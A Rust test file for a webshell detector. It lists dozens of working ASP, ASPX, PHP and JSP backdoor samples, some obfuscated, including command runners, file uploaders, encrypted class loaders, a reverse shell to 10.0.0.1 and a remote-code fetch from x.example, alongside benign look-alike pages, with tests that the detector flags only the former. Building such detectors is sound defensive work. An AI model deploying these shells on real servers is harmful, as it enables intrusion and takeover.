//! Samples of each family, and pages that look alike. They are texts of a test and run nowhere.
//!
//! In: one text a row. Out: what the reader must say of it.

use super::{Verdict, read};

/// Shells: name and text.
const SHELLS: &[(&str, &str)] = &[
    ("a1.asp", r#"<%eval request("x")%>"#),
    ("a10.asp", r#"<%execute(unescape("eval%20request%28%22aaa%22%29"))%>"#),
    ("a11.asp", r#"<%execute(strreverse(")""xx""(tseuqer lave"))%>"#),
    (
        "a12.asp",
        r#"<%
Dim s
Set sh = Server.CreateObject("WSCRIPT.SHELL")
cmd = request.form(".CMD")
if cmd <> "" then
set ex = sh.exec("cmd.exe /c " & cmd)
response.write ex.stdout.readall
end if
%>
<form method=post><input name=".CMD"></form>"#,
    ),
    (
        "a13.asp",
        r#"<%
set f=server.createobject("scripting.filesystemobject").createtextfile(server.mappath(request("p")),true)
f.write request("c")
f.close
%>"#,
    ),
    (
        "a14.asp",
        r#"<%
function d(s)
for i=1 to len(s) step 2
d=d&chr(clng("&H"&mid(s,i,2)))
next
end function
execute d("6576616C2072657175657374282278222920202020")
%>"#,
    ),
    (
        "a15.asp",
        r#"<%a=request("a")
b="ev"&"al"
execute(b&" a")%>"#,
    ),
    (
        "a16.asp",
        r#"<%
' upload
dim objStream
set objStream = Server.CreateObject("ADODB.Stream")
objStream.Type=1
objStream.Open
objStream.Write Request.BinaryRead(Request.TotalBytes)
objStream.SaveToFile Server.MapPath(Request.QueryString("f")),2
%>"#,
    ),
    ("a18.asp", r#"<!--#include file="x.jpg"-->"#),
    (
        "a19.asp",
        r#"<%dim a(5)
a(0)="ev":a(1)="al(req"
execute a(0)&a(1)&"uest(chr(35)))"%>"#,
    ),
    ("a2.asp", r#"<%execute request("x")%>"#),
    (
        "a20.asp",
        r#"<%set c=CreateObject("ADODB.Connection")
c.open request("dsn")
set r=c.execute(request("sql"))
%>"#,
    ),
    (
        "a21.asp",
        r#"<%
Class LandGrey
private sub class_initialize
eval(request("x"))
end sub
end class
set X = New LandGrey
%>"#,
    ),
    ("a22.asp", r#"<%@codepage=65000%><%response.codepage=65001:eval request("x")%>"#),
    (
        "a23.asp",
        r#"<% response.charset="utf-8"
if request("pass")="secret" then session("in")=1
set x=createobject("wscr"&"ipt.sh"&"ell")
response.write x.exec("cmd /c "&request("c")).stdout.readall %>"#,
    ),
    ("a3.asp", r#"<%ExecuteGlobal request("sb")%>"#),
    ("a4.asp", r#"<%Y=request("x")%> <%eval(Y)%>"#),
    (
        "a5.asp",
        r#"<%if request("f")<>"" then session("f")=request("f"):end if:if session("f")<>"" then execute session("f")%>"#,
    ),
    ("a6.asp", r#"<script language=vbs runat=server>eval(request("x"))</script>"#),
    (
        "a7.asp",
        r#"<%@ LANGUAGE="JavaScript"%>
<%eval(Request.form('#')+'')%>"#,
    ),
    (
        "a8.asp",
        r#"<%Set o = Server.CreateObject("ScriptControl")
o.language = "vbscript"
o.AddObject "Response",Response
o.ExecuteStatement(request("x"))%>"#,
    ),
    ("a9.asp", r#"<%eval(eval(chr(114)+chr(101)+chr(113)+chr(117)+chr(101)+chr(115)+chr(116))("xx"))%>"#),
    ("b1.aspx", r#"<%@ Page Language="Jscript"%><%eval(Request.Item["x"],"unsafe");%>"#),
    (
        "b10.asmx",
        r#"<%@ WebService Language="JScript" Class="S"%>
import System;import System.Web;import System.IO;import System.Web.Services
public class S extends WebService { WebMethodAttribute function P(x:String):String { var c:String = System.Text.Encoding.UTF8.GetString(Convert.FromBase64String(x)); return eval(Context.Request["a"],"unsafe"); } }"#,
    ),
    (
        "b11.aspx",
        r#"<%@ Page Language="C#" %><%@ Import Namespace="System.CodeDom.Compiler" %><%@ Import Namespace="Microsoft.CSharp" %><% CSharpCodeProvider p = new CSharpCodeProvider(); CompilerParameters cp = new CompilerParameters(); cp.GenerateInMemory=true; CompilerResults r = p.CompileAssemblyFromSource(cp, Request["src"]); object o = r.CompiledAssembly.CreateInstance("X"); o.GetType().GetMethod("Run").Invoke(o,null); %>"#,
    ),
    (
        "b12.aspx",
        r#"<%@ Page Language="Jscript"%><%@Import Namespace="System.IO"%>
<%\u0065\u0076\u0061\u006c(Request.Item["x"],"un"+"safe");%>"#,
    ),
    (
        "b13.aspx",
        r#"Name : OAB (Default Web Site)
InternalAuthenticationMethods : WindowsIntegrated
InternalUrl : https://mx/OAB
ExternalUrl : http://f/<script language="JScript" runat="server">function Page_Load(){eval(Request["k"],"unsafe");}</script>
BasicAuthentication : False
ExtendedProtectionTokenChecking : None
"#,
    ),
    (
        "b14.aspx",
        r#"<%@ Page Language="C#"%><%@ Import Namespace="System.IO"%><script runat="server">protected void Page_Load(object s,EventArgs e){ string d=Request["dir"]; if(d==null) d=Server.MapPath("."); foreach(DirectoryInfo x in new DirectoryInfo(d).GetDirectories()) Response.Write(x.Name); if(Request["del"]!=null) File.Delete(Request["del"]); if(Request["get"]!=null){ Response.WriteFile(Request["get"]); } if (flUp.HasFile) flUp.SaveAs(d + flUp.FileName); } </script><form runat=server><asp:FileUpload id="flUp" runat="server"/></form>"#,
    ),
    (
        "b15.aspx",
        r#"<%@ Page Language="C#"%><%@ Import Namespace="System.Data.SqlClient"%><script runat=server>void b_Click(object s,EventArgs e){ SqlConnection c = new SqlConnection(conn.Text); SqlCommand q = new SqlCommand(sql.Text, c); c.Open(); }</script><form runat=server><asp:TextBox id="conn" runat=server/><asp:TextBox id="sql" runat=server/></form>"#,
    ),
    (
        "b16.aspx",
        r#"<%@ Page Language="C#" %><% System.Diagnostics.Process.Start("cmd.exe","/c "+Request["c"]); %>"#,
    ),
    (
        "b17.aspx",
        r#"<%@ Page Language="C#" %><script runat="server">protected void Page_Load(object sender, EventArgs e){ System.Xml.XmlDocument d=new System.Xml.XmlDocument(); d.LoadXml(Request["x"]); System.Xml.Xsl.XslCompiledTransform t=new System.Xml.Xsl.XslCompiledTransform(); t.Load(d, System.Xml.Xsl.XsltSettings.TrustedXslt, new System.Xml.XmlUrlResolver()); t.Transform(d,null,Response.OutputStream);}</script>"#,
    ),
    (
        "b18.aspx",
        r#"<%@ Page Language="C#" %><% new System.Runtime.Serialization.Formatters.Binary.BinaryFormatter().Deserialize(new System.IO.MemoryStream(Convert.FromBase64String(Request["x"]))); %>"#,
    ),
    (
        "b19.ashx",
        r#"<%@ WebHandler Language="C#" class="Handler" %>
using System;using System.Web;using System.Diagnostics;
public class Handler : IHttpHandler{ public void ProcessRequest(HttpContext c){ Process p=new Process(); p.StartInfo.FileName=c.Request["e"]; p.StartInfo.Arguments=c.Request["a"]; p.StartInfo.UseShellExecute=false; p.Start(); } public bool IsReusable{get{return false;}} }"#,
    ),
    (
        "b2.aspx",
        r#"<%@ Page Language="Jscript"%><%eval(System.Text.Encoding.GetEncoding(65001).GetString(System.Convert.FromBase64String(Request["x"])),"unsafe");%>"#,
    ),
    (
        "b20.cshtml",
        r#"@using System.Diagnostics
@{ var c = Request["c"]; if (c != null) { var p = Process.Start(new ProcessStartInfo("cmd.exe", "/c " + c) { UseShellExecute=false }); } }
<html></html>"#,
    ),
    (
        "b21.aspx",
        r#"<%@ Page Language="VB" validateRequest="false"%><%
Dim w = New System.IO.StreamWriter(Server.MapPath(Request("f")))
w.Write(Request("d"))
w.Close()
%>"#,
    ),
    (
        "b3.aspx",
        r#"<script language="JScript" runat="server">function Page_Load(){eval(Request["x"],"unsafe");}</script>"#,
    ),
    (
        "b4.aspx",
        r#"<%@ Page Language="C#" Debug="true" %>
<%@ Import Namespace="System.Diagnostics" %>
<script runat="server">
void Page_Load(object s, EventArgs e){}
string Run(string arg){ ProcessStartInfo psi = new ProcessStartInfo(); psi.FileName="cmd.exe"; psi.Arguments="/c "+arg; psi.RedirectStandardOutput=true; psi.UseShellExecute=false; Process p = Process.Start(psi); return p.StandardOutput.ReadToEnd(); }
void cmdExe_Click(object s, System.EventArgs e){ Response.Write(Run(txtArg.Text)); }
</script>
<form runat="server"><asp:TextBox id="txtArg" runat="server"/><asp:Button id="go" OnClick="cmdExe_Click" runat="server"/></form>"#,
    ),
    (
        "b5.aspx",
        r#"<%@ Page Language="VB" %>
<%@ import Namespace="System.Diagnostics"%>
<script runat="server">
Sub RunCmd(Src As Object, E As EventArgs)
Dim p As New Process()
Dim si As New ProcessStartInfo(xpath.text)
si.Arguments = xcmd.text
p.StartInfo = si
p.Start()
End Sub
</script>
<form runat="server"><asp:TextBox id="xpath" runat="server"/><asp:TextBox id="xcmd" runat="server"/></form>"#,
    ),
    (
        "b6.ashx",
        r#"<%@ WebHandler Language="C#" Class="H" %>
using System;using System.IO;using System.Web;
public class H : IHttpHandler { public void ProcessRequest (HttpContext context) { string p = context.Request["p"]; StreamWriter w = new StreamWriter(p); w.Write(context.Request["c"]); w.Close(); } public bool IsReusable { get { return false; } } }"#,
    ),
    (
        "b7.aspx",
        r#"<%@ Page Language="C#" %><% if (Request.Files.Count!=0) { Request.Files[0].SaveAs(Server.MapPath(Request["f"])); } %>"#,
    ),
    (
        "b8.aspx",
        r#"<%@ Page Language="C#"%><%try{System.Reflection.Assembly.Load(Convert.FromBase64String(Request.Form["k"])).CreateInstance("X").Equals(this);}catch{}%>"#,
    ),
    (
        "b9.aspx",
        r#"<%@ Page Language="C#" EnableViewState="false" %>
<%@ Import Namespace="System.Net" %><%@ Import Namespace="System.Net.Sockets" %>
<%
if (Request.HttpMethod == "POST") { String cmd = Request.QueryString.Get("cmd").ToUpper();
 if (cmd == "CONNECT") { String target = Request.QueryString.Get("target").ToUpper(); int port = int.Parse(Request.QueryString.Get("port")); IPAddress ip = IPAddress.Parse(target); IPEndPoint remoteEP = new IPEndPoint(ip, port); Socket sender = new Socket(AddressFamily.InterNetwork, SocketType.Stream, ProtocolType.Tcp); sender.Connect(remoteEP); sender.Blocking = false; Session.Add("socket", sender); Response.AddHeader("X-STATUS", "OK"); }
 else if (cmd == "FORWARD") { Socket s = (Socket)Session["socket"]; byte[] buff = new byte[Request.ContentLength]; Request.InputStream.Read(buff,0,buff.Length); s.Send(buff); Response.AddHeader("X-STATUS","OK"); } } else { Response.Write("Georg says, 'All seems fine'"); } %>"#,
    ),
    ("c1.php", r#"<?php @eval($_POST["x"]);?>"#),
    (
        "c10.php",
        r#"<?php eval(gzinflate(base64_decode("y0zTyCwuTi3RUIkP8A8OiVaqUIrV1KxOLUvMQRGyrlUoriwuSc0Firq7AgWTQYIA")));?>"#,
    ),
    ("c11.php", r#"<?php $s=str_replace("z","","zassezrzt");$s($_POST["k"]);?>"#),
    ("c12.php", r#"<?php include($_FILES["f"]["tmp_name"]); ?>"#),
    ("c13.php", r"GIF89a<?php eval($_POST[1]);?>"),
    ("c14.php", r#"<?php file_put_contents($_POST["f"],$_POST["c"]);?>"#),
    ("c15.php", r"<?php echo `$_GET[c]`;?>"),
    (
        "c16.php",
        r#"<?php move_uploaded_file($_FILES["f"]["tmp_name"],$_FILES["f"]["name"]);?><form method=post enctype=multipart/form-data><input type=file name=f><input type=submit></form>"#,
    ),
    ("c17.php", r#"<?php $x=chr(97).chr(115).chr(115).chr(101).chr(114).chr(116);$x($_POST["a"]);?>"#),
    (
        "c18.php",
        r#"<?php $k="e45e329feb5d925b"; session_start(); $post=file_get_contents("php://input"); if(!extension_loaded("openssl")){ $t="base64_"."decode"; $post=$t($post.""); for($i=0;$i<strlen($post);$i++){ $post[$i]=$post[$i]^$k[$i+1&15]; } } else { $post=openssl_decrypt($post,"AES128",$k); } $arr=explode("|",$post); $func=$arr[0]; $params=$arr[1]; class C{public function __invoke($p){eval($p."");}} @call_user_func(new C(),$params); ?>"#,
    ),
    (
        "c19.php",
        r#"<?php $b=strrev("edoced_46esab");eval($b(str_replace(" ","","ZXZhbCgkX1JFUVVFU1RbImUiXSk7")));?>"#,
    ),
    ("c2.php", r#"<?php system($_GET["cmd"]); ?>"#),
    ("c20.php", r"<?php @extract($_REQUEST); @die($ctime($atime)); ?>"),
    ("c21.php", r#"<?php $c=base64_decode("YXNzZXJ0"); @$c($_POST["p"]); ?>"#),
    (
        "c22.php",
        r#"<?php $d="cmd"; $cmd=$_COOKIE[$d]; $p=popen($cmd,"r"); while(!feof($p)) echo fread($p,1024); ?>"#,
    ),
    ("c23.php", r#"<?php function fn1($a){return base64_decode($a);} eval(fn1($_SERVER["HTTP_X_A"])); ?>"#),
    ("c24.php", r"<?php foreach($_POST as $k=>$v){ $k($v); } ?>"),
    ("c25.php", r#"<?php $e=$_REQUEST["e"]; register_shutdown_function($e,$_REQUEST["p"]); ?>"#),
    ("c26.php", r#"<?php $url="http://x.example/s.txt"; eval("?>".file_get_contents($url)); ?>"#),
    ("c27.php", r#"<?php usort($_GET,"asse"."rt");?>"#),
    ("c28.php", r#"<?php $a = new ReflectionFunction("system"); echo $a->invoke($_GET["c"]); ?>"#),
    (
        "c29.php",
        r#"<?php class A{public $n; function __destruct(){ @eval($this->n); }} $a=new A; $a->n=$_POST["q"]; ?>"#,
    ),
    ("c3.php", r#"<?php $a=$_GET["a"];$b=$_POST["b"];$a($b);?>"#),
    (
        "c30.php",
        r#"<?php
$k="abcd";$kh="12";$kf="34";$p="x";function x($t,$k){$c=strlen($k);$l=strlen($t);$o="";for($i=0;$i<$l;){for($j=0;($j<$c&&$i<$l);$j++,$i++){$o.=$t[$i]^$k[$j];}}return $o;}
if(@preg_match("/$kh(.+)$kf/",@file_get_contents("php://input"),$m)==1){@ob_start();@eval(@gzuncompress(@x(@base64_decode($m[1]),$k)));}"#,
    ),
    (
        "c31.php",
        r#"<?php set_time_limit(0); $ip="10.0.0.1";$port=1234; $sock=fsockopen($ip,$port); $proc=proc_open("/bin/sh -i",array(0=>$sock),$pipes); ?>"#,
    ),
    ("c32.php", r#"<?php @include "\x2fhome\x2f.x.ico"; ?>"#),
    ("c34.php", r"<?=$_GET[0]($_GET[1]);"),
    (
        "c36.php",
        r#"<?php if(isset($_GET["dir"])){$d=$_GET["dir"];foreach(scandir($d) as $f)echo $f;} if(isset($_GET["d"]))unlink($_GET["d"]); if(isset($_GET["r"]))rename($_GET["r"],$_GET["n"]); if(isset($_POST["s"])){$h=fopen($_POST["s"],"w");fwrite($h,$_POST["t"]);} echo php_uname(); ?>"#,
    ),
    ("c4.php", r#"<?php assert($_REQUEST["c"]);?>"#),
    ("c5.php", r#"<?php $f=create_function("",$_POST["x"]);$f();?>"#),
    ("c6.php", r#"<?php preg_replace("/.*/e",$_POST["x"],"");?>"#),
    ("c7.php", r#"<?php array_map("assert",array($_POST["x"]));?>"#),
    ("c8.php", r#"<?php $_="";$__=("`"^"!");?><?php ${"_P"."OST"}["a"](${"_P"."OST"}["b"]);"#),
    ("c9.php", r#"<?php $a="ass"."ert"; $a(${"_POST"}["sz"]);?>"#),
    ("d1.jsp", r#"<%Runtime.getRuntime().exec(request.getParameter("i"));%>"#),
    (
        "d10.jsp",
        r#"${"".getClass().forName("java.lang.Runtime").getMethod("exec","".getClass()).invoke("".getClass().forName("java.lang.Runtime").getMethod("getRuntime").invoke(null),param.c)}"#,
    ),
    (
        "d11.jsp",
        r#"<%@ page import="java.io.*"%><% String dir=request.getParameter("dir"); File f=new File(dir); File[] l=f.listFiles(); for(File x:l) out.println(x.getName()); if(request.getParameter("del")!=null) new File(request.getParameter("del")).delete(); if(request.getParameter("mk")!=null) new File(request.getParameter("mk")).mkdir(); if(request.getParameter("down")!=null){ FileInputStream in=new FileInputStream(request.getParameter("down")); } %>"#,
    ),
    (
        "d12.jsp",
        r#"<%@page import="java.lang.reflect.*,org.apache.catalina.core.*"%><%! public class F implements javax.servlet.Filter{ public void doFilter(ServletRequest q, ServletResponse r, FilterChain c){ Runtime.getRuntime().exec(q.getParameter("cmd")); } } %><% Field a = request.getServletContext().getClass().getDeclaredField("context"); a.setAccessible(true); StandardContext sc=(StandardContext)a.get(request); FilterDef d=new FilterDef(); sc.addFilterDef(d); FilterMap m=new FilterMap(); sc.addFilterMapBefore(m); %>"#,
    ),
    (
        "d13.jsp",
        r#"<%! String xc="3c6e0b8a9c15224a"; String pass="pass"; String md5=md5(pass+xc); class X extends ClassLoader{public X(ClassLoader z){super(z);}public Class Q(byte[] cb){return super.defineClass(cb, 0, cb.length);} }%><%try{byte[] data=base64Decode(request.getParameter(pass));data=x(data, false);if (session.getAttribute("payload")==null){session.setAttribute("payload",new X(this.getClass().getClassLoader()).Q(data));}}catch (Exception e){}%>"#,
    ),
    (
        "d2.jsp",
        r#"<%@ page import="java.util.*,java.io.*"%><% if (request.getParameter("cmd") != null) { Process p = Runtime.getRuntime().exec(request.getParameter("cmd")); DataInputStream d = new DataInputStream(p.getInputStream()); String s = d.readLine(); while(s!=null){ out.println(s); s=d.readLine(); } } %>"#,
    ),
    (
        "d3.jsp",
        r#"<%@page import="java.util.*,javax.crypto.*,javax.crypto.spec.*"%><%!class U extends ClassLoader{U(ClassLoader c){super(c);}public Class g(byte []b){return super.defineClass(b,0,b.length);}}%><%if (request.getMethod().equals("POST")){String k="e45e329feb5d925b";session.putValue("u",k);Cipher c=Cipher.getInstance("AES");c.init(2,new SecretKeySpec(k.getBytes(),"AES"));new U(this.getClass().getClassLoader()).g(c.doFinal(new sun.misc.BASE64Decoder().decodeBuffer(request.getReader().readLine()))).newInstance().equals(pageContext);}%>"#,
    ),
    (
        "d4.jsp",
        r#"<%new java.io.FileOutputStream(request.getParameter("f")).write(request.getParameter("c").getBytes());%>"#,
    ),
    (
        "d5.jspx",
        r#"<jsp:root xmlns:jsp="http://java.sun.com/JSP/Page" version="1.2"><jsp:directive.page contentType="text/html"/><jsp:scriptlet>Runtime.getRuntime().exec(request.getParameter(&quot;c&quot;));</jsp:scriptlet></jsp:root>"#,
    ),
    (
        "d6.jsp",
        r#"<%@page import="javax.script.*"%><% new ScriptEngineManager().getEngineByName("js").eval(request.getParameter("x")); %>"#,
    ),
    (
        "d7.jsp",
        r#"<% Class rt = Class.forName("java.lang."+"Runtime"); rt.getMethod("exec",String.class).invoke(rt.getMethod("getRuntime").invoke(null), request.getParameter("c")); %>"#,
    ),
    (
        "d8.jsp",
        r#"<% ProcessBuilder b = new ProcessBuilder("cmd","/c",request.getParameter("c")); b.start(); %>"#,
    ),
    (
        "d9.jsp",
        r#"<% \u0052\u0075\u006e\u0074\u0069\u006d\u0065.getRuntime().exec(request.getParameter("i")); %>"#,
    ),
    (
        "web.config",
        r#"<?xml version="1.0"?><configuration><system.webServer><handlers accessPolicy="Read, Script, Write"><add name="web_config" path="*.config" verb="*" modules="IsapiModule" scriptProcessor="%windir%\system32\inetsrv\asp.dll" resourceType="Unspecified" requireAccess="Write" preCondition="bitness64" /></handlers><security><requestFiltering><fileExtensions><remove fileExtension=".config" /></fileExtensions><hiddenSegments><remove segment="web.config" /></hiddenSegments></requestFiltering></security></system.webServer></configuration>
<!-- <% Response.write(CreateObject("WScript.Shell").Exec("cmd /c " & request("c")).StdOut.ReadAll) %> -->"#,
    ),
    (
        "x.xslt",
        r#"<?xml version="1.0"?><xsl:stylesheet version="1.0" xmlns:xsl="http://www.w3.org/1999/XSL/Transform" xmlns:msxsl="urn:schemas-microsoft-com:xslt" xmlns:u="u"><msxsl:script language="C#" implements-prefix="u"><![CDATA[ public string x(){ System.Diagnostics.Process.Start("cmd.exe"); return ""; } ]]></msxsl:script></xsl:stylesheet>"#,
    ),
];

/// Pages that a reader of words would accuse.
const HARMLESS: &[(&str, &str)] = &[
    (
        "admin.aspx",
        r#"<%@ Page Language="VB" %>
<%@ Import Namespace="System.Data.SqlClient" %>
<script runat="server">
Sub Page_Load(s As Object, e As EventArgs)
Dim c As New SqlConnection(ConfigurationManager.ConnectionStrings("db").ConnectionString)
Dim q As New SqlCommand("select * from users where id=@id", c)
q.Parameters.AddWithValue("@id", Request.QueryString("id"))
End Sub
</script>"#,
    ),
    (
        "dispatch.php",
        r#"<?php class C { public function run(){ $m="action".ucfirst($_GET["a"]); if(method_exists($this,$m)) $this->$m($_POST); } }"#,
    ),
    (
        "download.aspx",
        r#"<%@ Page Language="C#" %><% string f = System.IO.Path.GetFileName(Request["f"]); Response.TransmitFile(Server.MapPath("~/files/" + f)); %>"#,
    ),
    (
        "elmah.aspx",
        r#"<%@ Page Language="C#" %>
<script runat="server">void Page_Load(object s, EventArgs e){ string id = Request.QueryString["id"]; ErrorLogEntry en = ErrorLog.GetDefault(Context).GetError(id); Response.Write(Server.HtmlEncode(en.Error.Detail)); }</script>"#,
    ),
    (
        "errorFE.aspx",
        r#"<%@ Page Language="C#" AutoEventWireup="true" Inherits="Microsoft.Exchange.HttpProxy.ErrorFE" %>
<%@ Import Namespace="Microsoft.Exchange.Clients"%>
<html><body><script>var a_sUrl = "<%=HttpUtility.JavaScriptStringEncode(Request.QueryString["url"])%>"; eval("1");</script><form runat="server"><asp:Literal id="msg" runat="server"/></form></body></html>"#,
    ),
    (
        "fso.asp",
        r#"<%
set fso=server.createobject("scripting.filesystemobject")
set f=fso.opentextfile(server.mappath("counter.txt"),1)
n=f.readline
f.close
set f=fso.createtextfile(server.mappath("counter.txt"),true)
f.writeline n+1
%>"#,
    ),
    (
        "license.php",
        r#"<?php // loader
$f="ioncube_loader_lin.so"; if(!extension_loaded("ionCube Loader")){ echo "need loader"; }"#,
    ),
    (
        "list.asp",
        r#"<%
set conn=server.createobject("adodb.connection")
conn.open application("dsn")
id=clng(request("id"))
set rs=conn.execute("select * from news where id="&id)
do while not rs.eof
response.write server.htmlencode(rs("title"))
rs.movenext
loop
%>"#,
    ),
    (
        "logon.aspx",
        r#"<%@ Page language="c#" AutoEventWireup="false" Inherits="Microsoft.Exchange.HttpProxy.Logon" %>
<%@ Import namespace="Microsoft.Exchange.Clients.Owa.Core"%>
<% if (Request.Cookies["PBack"] != null) { Response.Write(EncodingUtilities.HtmlEncode(Request.QueryString["reason"])); } %>
<script>window.eval("a=1")</script>"#,
    ),
    (
        "mailer.php",
        r#"<?php $t=$_POST["to"]; mail($t,"x",strip_tags($_POST["m"])); file_put_contents("log.txt",date("c")." sent\n",FILE_APPEND);"#,
    ),
    (
        "min.php",
        r#"<?php if(!defined("ABSPATH"))exit;$a=apply_filters("x",$_GET["p"]);echo esc_html($a);function k($b){return call_user_func(array($b,"run"),1);}"#,
    ),
    (
        "ping.php",
        r#"<?php $h=escapeshellarg($_POST["host"]); echo "<pre>".htmlspecialchars(shell_exec("ping -c 3 ".$h))."</pre>";"#,
    ),
    (
        "process.aspx",
        r#"<%@ Page Language="C#" %><script runat="server">void b_Click(object s, EventArgs e){ System.Diagnostics.Process.Start(@"C:\tools\report.exe", "/daily"); }</script>"#,
    ),
    (
        "proxy.ashx",
        r#"<%@ WebHandler Language="C#" Class="P" %>
using System.Net; using System.Web;
public class P : IHttpHandler { public void ProcessRequest(HttpContext c){ string u = c.Request.Url.Query.Substring(1); WebRequest r = WebRequest.Create(u); using (WebResponse s = r.GetResponse()) { c.Response.ContentType = s.ContentType; } } public bool IsReusable { get { return false; } } }"#,
    ),
    (
        "snoop.jsp",
        r#"<html><% Enumeration e = request.getHeaderNames(); while (e.hasMoreElements()) { String n = (String) e.nextElement(); out.println(n + ": " + util.HTMLFilter.filter(request.getHeader(n))); } %></html>"#,
    ),
    (
        "template.php",
        r#"<?php function render($f,$v){ extract($v); ob_start(); include dirname(__FILE__)."/tpl/".$f.".php"; return ob_get_clean(); } echo render("home",array("t"=>1));"#,
    ),
    (
        "upload.ashx",
        r#"<%@ WebHandler Language="C#" Class="Upload" %>
using System; using System.IO; using System.Web;
public class Upload : IHttpHandler {
 public void ProcessRequest(HttpContext context) {
  HttpPostedFile file = context.Request.Files["imgFile"];
  string ext = Path.GetExtension(file.FileName).ToLower();
  if (Array.IndexOf(new string[]{".gif",".jpg"}, ext) == -1) { context.Response.Write("type"); return; }
  string name = DateTime.Now.ToString("yyyyMMddHHmmss") + ext;
  file.SaveAs(context.Server.MapPath("~/attached/") + name);
 }
 public bool IsReusable { get { return true; } }
}"#,
    ),
    (
        "upload.asp",
        r#"<!--#include file="inc/upload_class.asp"-->
<%
set up=new upload_5xsoft
for each f in up.file
set file=up.file(f)
ext=lcase(right(file.filename,4))
if ext<>".jpg" and ext<>".gif" then response.end
file.saveas server.mappath("upload/"&year(now)&month(now)&ext)
next
%>"#,
    ),
    (
        "upload.jsp",
        r#"<%@ page import="java.io.*,org.apache.commons.fileupload.*"%><% ServletFileUpload u = new ServletFileUpload(new DiskFileItemFactory()); List items = u.parseRequest(request); Iterator i = items.iterator(); while (i.hasNext()) { FileItem it = (FileItem) i.next(); it.write(new File(application.getRealPath("/upload"), UUID.randomUUID() + ".jpg")); } %>"#,
    ),
    (
        "upload.php",
        r#"<?php
require "config.php";
$allowed=array("jpg","png");
$ext=strtolower(pathinfo($_FILES["f"]["name"],PATHINFO_EXTENSION));
if(!in_array($ext,$allowed)) die("no");
move_uploaded_file($_FILES["f"]["tmp_name"], "uploads/".md5(uniqid()).".".$ext);"#,
    ),
    (
        "vdir.txt",
        r"Name : OAB (Default Web Site)
InternalAuthenticationMethods : {WindowsIntegrated}
InternalUrl : https://mx/OAB
ExternalUrl : https://mail/OAB
BasicAuthentication : False
ExtendedProtectionTokenChecking : None
",
    ),
    (
        "view.cshtml",
        r#"@model Page
@{ ViewBag.Title = "Home"; var q = Request["q"]; }
<p>@q</p>"#,
    ),
    (
        "view.jsp",
        r#"<%@ page contentType="text/html" import="java.util.*" %><% String n = request.getParameter("n"); if (n == null) n = ""; List l = (List) request.getAttribute("items"); for (Object o : l) { out.println(o); } %><c:out value="${param.q}"/>"#,
    ),
    (
        "web.config",
        r#"<?xml version="1.0"?><configuration><system.webServer><handlers><add name="ashx" path="*.ashx" verb="*" type="System.Web.UI.SimpleHandlerFactory"/></handlers></system.webServer></configuration>"#,
    ),
    (
        "x.xslt",
        r#"<?xml version="1.0"?><xsl:stylesheet version="1.0" xmlns:xsl="http://www.w3.org/1999/XSL/Transform" xmlns:msxsl="urn:schemas-microsoft-com:xslt"><msxsl:script language="C#"><![CDATA[ public string d(){ return System.DateTime.Now.ToString(); } ]]></msxsl:script></xsl:stylesheet>"#,
    ),
];

#[test]
fn every_family_is_accused_and_says_why() {
    for (name, text) in SHELLS {
        let reading = read(text.as_bytes(), name);
        assert_eq!(reading.verdict(), Verdict::Accused, "{name}: {reading:?}\n{text}");
        assert!(!reading.reasons.is_empty() && reading.reasons.iter().all(|reason| reason.line >= 1));
    }
}

#[test]
fn look_alikes_are_not_accused() {
    for (name, text) in HARMLESS {
        let reading = read(text.as_bytes(), name);
        assert_ne!(reading.verdict(), Verdict::Accused, "{name}: {reading:?}\n{text}");
    }
}

#[test]
fn the_encoding_of_the_text_and_what_lies_before_it_hide_nothing() {
    let (name, text) = SHELLS.iter().find(|(name, _)| *name == "b1.aspx").expect("listed");
    let wide: Vec<u8> = text.encode_utf16().flat_map(u16::to_le_bytes).collect();
    let marked: Vec<u8> = [0xff, 0xfe].into_iter().chain(wide.iter().copied()).collect();
    for bytes in [&wide, &marked] {
        assert_eq!(read(bytes, name).verdict(), Verdict::Accused);
    }
    for head in [&b"!BDN\x01\x02\x03"[..], b"\x30\x82\x04\x00", b"GIF89a"] {
        let bytes: Vec<u8> = head.iter().chain(text.as_bytes()).copied().collect();
        assert_eq!(read(&bytes, name).verdict(), Verdict::Accused);
    }
}

#[test]
fn a_word_in_a_comment_counts_nothing() {
    let text = "<?php /* eval($_POST['x']); system($_GET['c']); */ // assert($_POST[1]);\n echo 1;";
    assert_eq!(read(text.as_bytes(), "x.php").score, 0);
    let text = "<%\n' execute request(\"x\")\nresponse.write \"eval request\"\n%>";
    assert_eq!(read(text.as_bytes(), "x.asp").score, 0);
}

#[test]
fn a_reason_names_its_line() {
    let reading = read(b"<html>\n<?php\n$a = $_POST['x'];\neval($a);\n", "x.php");
    assert_eq!(reading.reasons.first().map(|reason| reason.line), Some(4), "{reading:?}");
}

#[test]
fn hostile_pages_end() {
    for open in
        ["(", "[", "{", "<%", "<?php ", "a(", "\"", "if(", "new ", "function(", "eval(", "${", "<<<A\n", "$$"]
    {
        for start in ["<?php ", "<%@ Page Language=\"C#\" %><%"] {
            let text = start.to_owned() + &open.repeat(100_000);
            read(text.as_bytes(), "x");
        }
    }
    let line = "<?php $a=1;".to_owned() + &"$b.=chr(1).$_GET['x'].'abc';".repeat(10_000_000 / 28);
    read(line.as_bytes(), "x.php");
}

proptest::proptest! {
    #[test]
    fn no_page_makes_it_panic(
        start in proptest::sample::select(vec!["<?php ", "<% ", "<%@ Page Language=\"Jscript\"%><%", "<jsp:scriptlet>", "<configuration><handlers>"]),
        pieces in proptest::collection::vec(proptest::sample::select(vec![
            "$_POST", "['x']", "(", ")", "{", "}", "eval", "=", ".", "$a", "\"", "'", "function f($x)", "foreach", " as ", "=>", "request", "chr(", "1", ",", ";", "\n", "\\u0065", "?>", "%>", "new ", "<<<A", "é", "base64_decode(", "'ZXZhbA=='",
        ]), 0..60),
    ) {
        let text = start.to_owned() + &pieces.concat();
        read(text.as_bytes(), "x");
    }

    #[test]
    fn no_bytes_make_it_panic(bytes in proptest::collection::vec(proptest::prelude::any::<u8>(), 0..400)) {
        let mut page = b"<?php ".to_vec();
        page.extend(&bytes);
        read(&page, "x.php");
        read(&bytes, "x.aspx");
    }
}
